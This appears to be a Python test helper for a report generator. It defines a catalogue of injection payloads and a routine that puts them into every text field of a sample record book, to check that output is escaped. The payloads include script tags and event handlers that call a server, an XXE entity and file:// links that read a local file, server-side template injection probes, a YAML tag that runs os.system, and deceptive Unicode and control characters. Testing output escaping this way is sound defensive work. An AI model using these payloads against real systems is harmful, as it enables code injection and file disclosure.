"""Texts that would do something if anybody took them for more than text, and a book in which every text is one."""

import json
import re
import sys
import unicodedata
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "report"))

import conftest as samples
from tallystick.canonical import encode
from tallystick.people.book import Book
from tallystick.records import FIRST_PREV, Entry

MARK = "c4n4ry"
"""Stands in every payload, so that what came from data is known again."""
ANSWER = "975461057789971041"
"""What a template that runs says: 987654321 times itself."""


def payloads(server, file):
    """By name. They would run a script, ask the server for something, read the file, or change what is around them.

    Args:
        server: an address that nobody asks, if all is well.
        file: a file that nobody opens.
    """
    run = f"document.documentElement.setAttribute('data-ran','{MARK}');fetch('{server}/{MARK}')"
    url = f"{server}/{MARK}"
    found = {
        "script": f"<script>{run}</script>",
        "script that closes everything": f"--></style></title></textarea></td></table><script>{run}</script>",
        "script from elsewhere": f'<script src="{url}.js"></script>',
        "script in a quote": f"\"'><script>{run}</script>",
        "picture that fails": f'<img src=x onerror="{run}">',
        "picture": f'<img src="{url}.png">',
        "handler in an attribute": f'" onmouseover="{run}" autofocus onfocus="{run}" x="',
        "handler on the body": f'<body onload="{run}">',
        "details that open": f'<details open ontoggle="{run}">',
        "link of javascript": f'<a href="javascript:{run}">{MARK}</a>',
        "address of javascript": f"javascript:{run}",
        "address of data": f"data:text/html,<script>{run}</script>",
        "address of a file": f"file://{file} {MARK}",
        "address of a server": url,
        "address with www": f"www.{MARK}.example",
        "address of mail": f"{MARK}@x.example",
        "frame": f'<iframe src="{url}"></iframe>',
        "frame with a source": f'<iframe srcdoc="<script>{run}</script>"></iframe>',
        "object": f'<object data="file://{file}">{MARK}</object>',
        "embedding": f'<embed src="{url}">',
        "form": f'<form action="{url}"><button autofocus>{MARK}</form>',
        "refresh": f'<meta http-equiv="refresh" content="0;url={url}">',
        "base": f'<base href="{url}">',
        "style sheet": f'<link rel="stylesheet" href="{url}.css">',
        "attachment of a PDF": f'<link rel="attachment" href="file://{file}" title="{MARK}">',
        "attachment by a link": f'<a rel="attachment" href="file://{file}">{MARK}</a>',
        "style that imports": f'<style>@import url("{url}.css");</style>',
        "style in a style": f"}}</style><style>*{{background:url({url})}}",
        "declaration": f"; background: url({url}); x: expression({run})",
        "font": f"@font-face{{font-family:x;src:url(file://{file})}} {MARK}",
        "drawing": f'<svg onload="{run}"><image href="{url}"/><script>{run}</script></svg>',
        "drawing by use": f'<svg><use href="{url}#a"/></svg>',
        "formula": f'<math><mtext><img src=x onerror="{run}"></mtext></math>',
        "comment": f"<!--[if true]><script>{run}</script><![endif]--> {MARK}",
        "character data": f"]]><script>{run}</script><![CDATA[",
        "entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{file}">]><a>&x;{MARK}</a>',
        "template": "{{ 987654321 * 987654321 }}" + MARK,
        "template that includes": f"{{% include '{file}' %}}{MARK}",
        "template that asks for classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}" + MARK,
        "template block": "{% for a in range(9) %}" + MARK + "{% endfor %}{# #}",
        "Markdown link": f"[{MARK}]({url})",
        "Markdown picture": f"![{MARK}]({url}.png)",
        "Markdown link of javascript": f"[{MARK}](javascript:{run})",
        "Markdown address": f"<{url}>",
        "Markdown definition": f"[17]: {url}\n[{MARK}]: file://{file}",
        "Markdown heading": f"{MARK}\n# {MARK}\n{MARK}\n===",
        "Markdown fence": f"```\n{MARK}\n```\n~~~\n{MARK}",
        "Markdown table": f"{MARK} | {MARK} |\n| --- | --- |\n| {MARK} | {MARK}",
        "Markdown code": f"`{MARK}` ``{MARK}``",
        "Markdown backslash": f"{MARK}\\",
        "end of front matter": f"---\n{MARK}: yes\n---\n",
        "key of front matter": f'{MARK}"\nlicense: mit\n{MARK}: "',
        "tag of YAML": f"!!python/object/apply:os.system ['touch {file}.{MARK}']",
        "anchor of YAML": f"&a [*a, {MARK}]",
        "bidirectional": f"{MARK}\u202e\u2066fdp.exe\u2069\u202c",
        "no width": f"{MARK}\u200b\u200d\ufeff\u2060\u00ad",
        "control": f"{MARK}\x00\x07\x1b[31m\x9b\r\b",
        "tags of Unicode": f"{MARK}" + "".join(chr(0xE0000 + ord(c)) for c in "hidden"),
        "marks in a heap": f"{MARK}e" + "\u0301" * 40,
        "not characters": f"{MARK}\ufffe\U0001ffff\ue000",
        "XMP": f'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>{MARK}</rdf:RDF></x:xmpmeta>',
        "string of PDF": f"{MARK}) /AA << /O << /S /URI /URI ({url}) >> >> (",
        "formula of a sheet": f'=HYPERLINK("{url}")&{MARK}',
        "very long": f"{MARK} " + "W" * 5_000,
    }
    return {name: unicodedata.normalize("NFC", text) for name, text in found.items()}


# --- a book full of them ----------------------------------------------------------------------------------------------

HEX = re.compile(r"[0-9a-f]{8,128}")
TIME = re.compile(r"\d{4}-\d\d-\d\d(T.*)?")
OURS = {
    *("actor", "actors", "type", "verdict", "status", "verificationResult", "stage", "purpose", "algorithm", "roles"),
    *("owner", "assigned_by", "author", "approver", "public_key", "origin", "uuid", "checkpoint_key", "attachment"),
    *("seed", "replay", "due", "float", "int", "role"),
}
"""Fields by which the report chooses what to say: what stands there is another trial's."""
NAMED_BY_DATA = {"values", "seeds", "tools", "group", "category", "platform"}
"""Mappings whose keys are texts of somebody else too."""


class Poison:
    """Puts a payload in place of every text that it meets, another one each time, and counts them."""

    def __init__(self, texts, first):
        self._texts, self._next, self.put = texts, first, 0

    def text(self):
        self._next += 1
        self.put += 1
        return self._texts[self._next % len(self._texts)]

    def value(self, value, key=""):
        if isinstance(value, dict):
            if set(value) == {"seq", "leaf"}:
                return value
            return {self._key(name, key): self.value(item, name) for name, item in value.items()}
        if isinstance(value, list):
            return [self.value(item, key) for item in value]
        return self.text() if self._is_text(value, key) else value

    def _key(self, name, of):
        return f"{self.text()[:400]} {name}" if of in NAMED_BY_DATA else name

    def _is_text(self, value, key):
        return isinstance(value, str) and key not in OURS and not HEX.fullmatch(value) and not TIME.fullmatch(value)


def book(texts, first=0):
    """The richest sample book, with payloads for texts, and the number of texts that were put in it.

    Args:
        first: which payload is put first; each text has had every one after as many books as there are payloads.
    """
    clean, _ = samples.succeeded()
    poison = Poison(texts, first)
    entries, leaves, parts = [], {}, {}
    for entry in clean.entries:
        value = json.loads(entry.raw)
        body = poison.value(_with_law(value["body"]))
        if value["kind"] == "params":
            body["values"] |= {"class": poison.text()}
        value["body"] = _relinked(body, leaves)
        value["prev"] = entries[-1].leaf.hex() if entries else FIRST_PREV
        entries.append(Entry.parse(encode(value)))
        leaves[entry.leaf.hex()] = entries[-1].leaf.hex()
        for line in (*entry.attachments, *entry.personal):
            parts[entry.seq, line["name"]] = encode(_part(clean, entry, line["name"], poison))
    found = Book(entries, origin=clean.origin, parts=lambda entry, name: parts.get((entry.seq, name)))
    return found, poison.put


def _with_law(body):
    """Where there are checks, the first bias check also says what Local Law 144 asks for."""
    for check in body.get("checks", ()) if isinstance(body.get("checks"), list) else ():
        if check["type"] == "bias":
            line = {"n": 120, "selected": 30, "selection_rate": 0.25, "impact_ratio": 1.0, "excluded": False}
            lines = [line | {"category": {"sex": sex}} for sex in ("Female", "Male")]
            check["figures"] = {"ll144": {"categories": lines, "unknown": 3, "justification": "too few"}}
    return body


def _part(clean, entry, name, poison):
    if name == "profile.json":
        line = {"name": poison.text(), "nulls": 0, "distinct": 2, "values": [[poison.text(), 20], [poison.text(), 30]]}
        return {"columns": [line]}
    if name == "name":
        return poison.text()
    return poison.value(json.loads(clean.part(entry, name)))


def _relinked(value, leaves):
    if isinstance(value, dict):
        if set(value) == {"seq", "leaf"}:
            return {"seq": value["seq"], "leaf": leaves[value["leaf"]]}
        return {name: _relinked(item, leaves) for name, item in value.items()}
    return [_relinked(item, leaves) for item in value] if isinstance(value, list) else value
